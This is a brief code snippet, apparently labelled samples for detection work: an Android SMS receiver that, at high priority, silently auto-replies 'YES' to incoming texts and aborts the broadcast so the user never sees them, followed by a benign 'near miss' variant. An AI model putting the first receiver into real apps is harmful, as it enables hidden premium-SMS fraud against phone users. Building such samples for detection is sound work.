permissions("SEND_SMS", "RECEIVE_SMS")

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=100)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        self.reply(message.getOriginatingAddress())
        self.abortBroadcast()
    def reply(self, number: String):
        SmsManager.getDefault().sendTextMessage(number, None, "YES", None, None)

# near miss: answers its own fixed number and leaves the message there
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=100)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        Toast.makeText(context, message.getOriginatingAddress(), 1).show()
        self.reply("YES")
    def reply(self, number: String):
        SmsManager.getDefault().sendTextMessage(number, None, number, None, None)
